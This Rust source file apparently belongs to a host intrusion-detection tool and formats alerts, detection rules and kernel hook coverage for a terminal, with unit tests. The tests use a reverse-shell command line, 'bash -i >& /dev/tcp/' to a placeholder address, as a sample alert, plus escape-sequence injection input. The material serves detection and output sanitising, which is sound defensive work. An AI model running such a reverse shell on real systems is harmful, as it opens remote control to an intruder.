//! Alerts, rules and coverage as text.

use std::collections::BTreeMap;

use jiff::tz::TimeZone;

use super::model::{Alert, Coverage, Rule};
use crate::text::{
    escape::{escape, pad, shorten},
    fit::{Columns, paragraph},
    style::Style,
    table::{Table, pairs_within},
    time::{clock, local},
};

/// Columns before the title of an alert that is raised: time and level.
const BEFORE_TITLE: usize = 25;

/// On a terminal, a command line takes at most as many columns as this many lines have.
const COMMAND_LINES: usize = 2;

/// One line for an alert as it is raised; on a terminal, broken under its title.
pub fn line(alert: &Alert, style: Style, zone: &TimeZone, columns: Columns) -> String {
    let level = escape(&alert.level);
    let mut text = format!(
        "{}  {}  {}",
        style.dim(&clock(alert.time, zone)),
        style.severity(&alert.level, &pad(&level, 13)),
        style.bold(&escape(&alert.title))
    );
    if alert.count > 1 {
        text.push_str(&format!(" ×{}", alert.count));
    }
    text.push_str(&format!(
        "  {}[{}] by {}",
        escape(program(&alert.executable)),
        alert.pid,
        escape(&alert.user)
    ));
    if !alert.unit.is_empty() {
        text.push_str(&format!(" in {}", escape(&alert.unit)));
    }
    let mut command = escape(alert.command());
    if let Some(columns) = columns {
        command = shorten(&command, COMMAND_LINES * columns);
    }
    paragraph(&format!("{text}: {command}"), columns, BEFORE_TITLE)
}

/// The last part of a path.
fn program(executable: &str) -> &str {
    executable.rsplit('/').next().unwrap_or(executable)
}

/// The alerts that stand.
pub fn alerts(alerts: &[Alert], style: Style, zone: &TimeZone, columns: Columns) -> String {
    if alerts.is_empty() {
        return "no alerts\n".to_owned();
    }
    let mut table = Table::new(&[
        "ID", "TIME", "LEVEL", "COUNT", "PID", "USER", "UNIT", "TITLE", "COMMAND",
    ])
    .right(&[3, 4])
    .within(columns)
    .cut(&[(5, 8), (6, 12), (7, 24), (8, 12)])
    .omit(&[6, 5, 4, 3, 1]);
    for alert in alerts {
        table.row([
            escape(&alert.id),
            local(alert.time, zone),
            escape(&alert.level),
            alert.count.to_string(),
            alert.pid.to_string(),
            escape(&alert.user),
            escape(&alert.unit),
            escape(&alert.title),
            escape(alert.command()),
        ]);
    }
    table.render(|column, cell, aligned| match column {
        2 => style.severity(cell, aligned),
        _ => aligned.to_owned(),
    })
}

/// Everything about one alert.
pub fn details(alert: &Alert, style: Style, zone: &TimeZone, columns: Columns) -> String {
    let ancestors: Vec<String> = alert
        .ancestors
        .iter()
        .map(|(pid, comm, executable)| {
            format!("{}[{pid}] {}", escape(comm), escape(executable))
                .trim_end()
                .to_owned()
        })
        .collect();
    let tags: Vec<String> = alert.tags.iter().map(|tag| escape(tag)).collect();
    let rows = [
        ("Id", escape(&alert.id)),
        ("Title", style.bold(&escape(&alert.title))),
        ("Level", style.severity(&alert.level, &escape(&alert.level))),
        ("Rule", escape(&alert.rule_id)),
        ("Time", local(alert.time, zone)),
        ("Count", alert.count.to_string()),
        ("Class", escape(&alert.class)),
        (
            "Process",
            format!("{} {}", alert.pid, escape(&alert.executable)),
        ),
        ("Command", escape(&alert.command_line)),
        ("User", format!("{} ({})", escape(&alert.user), alert.uid)),
        ("Unit", escape(&alert.unit)),
        ("Ancestors", ancestors.join(" < ")),
        ("Tags", tags.join(", ")),
        ("Why", escape(&alert.explanation)),
    ];
    let mut text = pairs_within(&rows, columns);
    if !alert.fields.is_empty() {
        text.push_str("Fields:\n");
        text.push_str(&fields(&alert.fields, columns));
    }
    text
}

/// Fields by name, one line each; on a terminal, broken under themselves.
pub fn fields(fields: &BTreeMap<String, String>, columns: Columns) -> String {
    fields
        .iter()
        .map(|(name, value)| {
            paragraph(
                &format!("  {}: {}", escape(name), escape(value)),
                columns,
                4,
            )
        })
        .collect()
}

/// The rules, one line each.
pub fn rules(rules: &[Rule], style: Style, columns: Columns) -> String {
    if rules.is_empty() {
        return "no rules\n".to_owned();
    }
    let mut table = Table::new(&["FATE", "LEVEL", "TITLE", "ID", "REASON"])
        .within(columns)
        .cut(&[(2, 24), (3, 36)])
        .omit(&[3])
        .below();
    for rule in rules {
        table.row([
            escape(&rule.fate),
            escape(&rule.level),
            escape(&rule.title),
            escape(&rule.id),
            escape(&rule.reason),
        ]);
    }
    table.render(|column, cell, aligned| match column {
        0 => style.severity(cell, aligned),
        1 => style.severity(cell, aligned),
        _ => aligned.to_owned(),
    })
}

/// What a reload gave.
pub fn reloaded(loaded: u32, not_applicable: u32, failed: u32, style: Style) -> String {
    let failed = if failed > 0 {
        style.bad(&format!(
            "{failed} failed (see: quantumctl security rules --fate failed)"
        ))
    } else {
        "0 failed".to_owned()
    };
    format!("{loaded} rules loaded, {not_applicable} not applicable here, {failed}\n")
}

/// The classes of event, one line each. A reason that several have is said once, below, and has a number above.
pub fn coverage(coverage: &[Coverage], style: Style, columns: Columns) -> String {
    let reasons = |class: &Coverage| -> Vec<String> {
        let parts = class.reason.split("; ").filter(|part| !part.is_empty());
        parts.map(escape).collect()
    };
    let mut counts: BTreeMap<String, usize> = BTreeMap::new();
    for reason in coverage.iter().flat_map(reasons) {
        *counts.entry(reason).or_default() += 1;
    }
    let mut notes: Vec<String> = Vec::new();
    let mut table = Table::new(&["CLASS", "STATE", "HOOK", "REASON"])
        .within(columns)
        .wrap(&[(2, 16)])
        .below();
    for class in coverage {
        table.row([
            escape(&class.class),
            escape(&class.state),
            escape(&class.hook),
            shortened(reasons(class), &counts, &mut notes),
        ]);
    }
    let table = table.render(|column, cell, aligned| match column {
        1 => style.severity(cell, aligned),
        _ => aligned.to_owned(),
    });
    if notes.is_empty() {
        return table;
    }
    let mut below = Table::new(&["NOTE", "REASON"])
        .within(columns)
        .wrap(&[(1, 16)]);
    for (note, number) in notes.iter().zip(1..) {
        below.row([format!("[{number}]"), note.clone()]);
    }
    format!("{table}\n{}", below.plain())
}

/// Reasons in one cell, the numbers of those that others have, too, at the end.
fn shortened(
    reasons: Vec<String>,
    counts: &BTreeMap<String, usize>,
    notes: &mut Vec<String>,
) -> String {
    let mut own = Vec::new();
    let mut numbers = String::new();
    for reason in reasons {
        if counts.get(&reason).is_none_or(|count| *count < 2) {
            own.push(reason);
            continue;
        }
        let known = notes.iter().position(|note| *note == reason);
        let place = known.unwrap_or_else(|| {
            notes.push(reason);
            notes.len() - 1
        });
        numbers = format!("{numbers}[{}]", place + 1);
    }
    let own = own.join("; ");
    match (own.is_empty(), numbers.is_empty()) {
        (true, _) => numbers,
        (_, true) => own,
        _ => format!("{own} {numbers}"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::security::model::tests::alert;

    #[test]
    fn an_alert_is_one_line() {
        assert_eq!(
            line(&alert(), Style::PLAIN, &TimeZone::UTC, None),
            "12:00:00  high           Interactive shell from a service ×3  \
             bash[4242] by www-data in nginx.service: bash -i >& /dev/tcp/192.0.2.1/4444\n"
        );
    }

    #[test]
    fn a_hostile_command_line_stays_on_its_line() {
        let mut hostile = alert();
        hostile.command_line = "x\n\x1b[1A\x1b[2Kfake line".into();
        hostile.executable = "/tmp/\x1b]0;t\x07".into();
        let text = line(&hostile, Style::PLAIN, &TimeZone::UTC, None);
        assert_eq!(text.matches('\n').count(), 1);
        assert!(!text.contains('\x1b'));
        for text in [
            alerts(
                std::slice::from_ref(&hostile),
                Style::PLAIN,
                &TimeZone::UTC,
                None,
            ),
            details(&hostile, Style::PLAIN, &TimeZone::UTC, None),
        ] {
            assert!(!text.contains('\x1b'), "{text:?}");
        }
    }

    #[test]
    fn a_table_of_alerts() {
        assert_eq!(
            alerts(&[alert()], Style::PLAIN, &TimeZone::UTC, None),
            "\
ID  TIME                 LEVEL  COUNT   PID  USER      UNIT           TITLE                             COMMAND
17  2025-11-21 12:00:00  high       3  4242  www-data  nginx.service  Interactive shell from a service  bash -i >& /dev/tcp/192.0.2.1/4444
"
        );
        assert_eq!(
            alerts(&[], Style::PLAIN, &TimeZone::UTC, None),
            "no alerts\n"
        );
    }

    #[test]
    fn details_tell_all() {
        assert_eq!(
            details(&alert(), Style::PLAIN, &TimeZone::UTC, None),
            "\
Id:         17
Title:      Interactive shell from a service
Level:      high
Rule:       r-1
Time:       2025-11-21 12:00:00
Count:      3
Class:      process_creation
Process:    4242 /usr/bin/bash
Command:    bash -i >& /dev/tcp/192.0.2.1/4444
User:       www-data (33)
Unit:       nginx.service
Ancestors:  nginx[100] /usr/sbin/nginx
Tags:       attack.execution, attack.t1059.004
Why:        selection: CommandLine contains /dev/tcp/
Fields:
  Image: /usr/bin/bash
"
        );
    }

    #[test]
    fn rules_and_coverage() {
        let rule: Rule = (
            "id".to_owned(),
            "Title".to_owned(),
            "low".to_owned(),
            "failed".to_owned(),
            "a.yml:3: unknown modifier".to_owned(),
        )
            .into();
        assert_eq!(
            rules(&[rule], Style::PLAIN, None),
            "FATE    LEVEL  TITLE  ID  REASON\nfailed  low    Title  id  a.yml:3: unknown modifier\n"
        );
        let class: Coverage = (
            "exec".to_owned(),
            "tp_btf/sched_process_exec".to_owned(),
            "attached".to_owned(),
            String::new(),
        )
            .into();
        assert_eq!(
            coverage(&[class], Style::PLAIN, None),
            "CLASS  STATE     HOOK                       REASON\nexec   attached  tp_btf/sched_process_exec\n"
        );
        let refused = "lsm/file_open: attached, but it does not fire";
        let seen = [
            (
                "open",
                "fentry/security_file_open",
                "active",
                refused.to_owned(),
            ),
            ("exec", "tp_btf/sched_process_exec", "active", String::new()),
            (
                "file.link",
                "tp_btf/sys_exit",
                "partial",
                format!("not seen: io_uring; {refused}; fentry: no"),
            ),
            (
                "file.chown",
                "tp_btf/sys_exit",
                "partial",
                format!("{refused}; fentry: no"),
            ),
        ];
        let seen: Vec<Coverage> = seen
            .into_iter()
            .map(|(class, hook, state, reason)| {
                (class.to_owned(), hook.to_owned(), state.to_owned(), reason).into()
            })
            .collect();
        assert_eq!(
            coverage(&seen, Style::PLAIN, None),
            "\
CLASS       STATE    HOOK                       REASON
open        active   fentry/security_file_open  [1]
exec        active   tp_btf/sched_process_exec
file.link   partial  tp_btf/sys_exit            not seen: io_uring [1][2]
file.chown  partial  tp_btf/sys_exit            [1][2]

NOTE  REASON
[1]   lsm/file_open: attached, but it does not fire
[2]   fentry: no
"
        );
        assert_eq!(
            reloaded(108, 102, 0, Style::PLAIN),
            "108 rules loaded, 102 not applicable here, 0 failed\n"
        );
    }
}
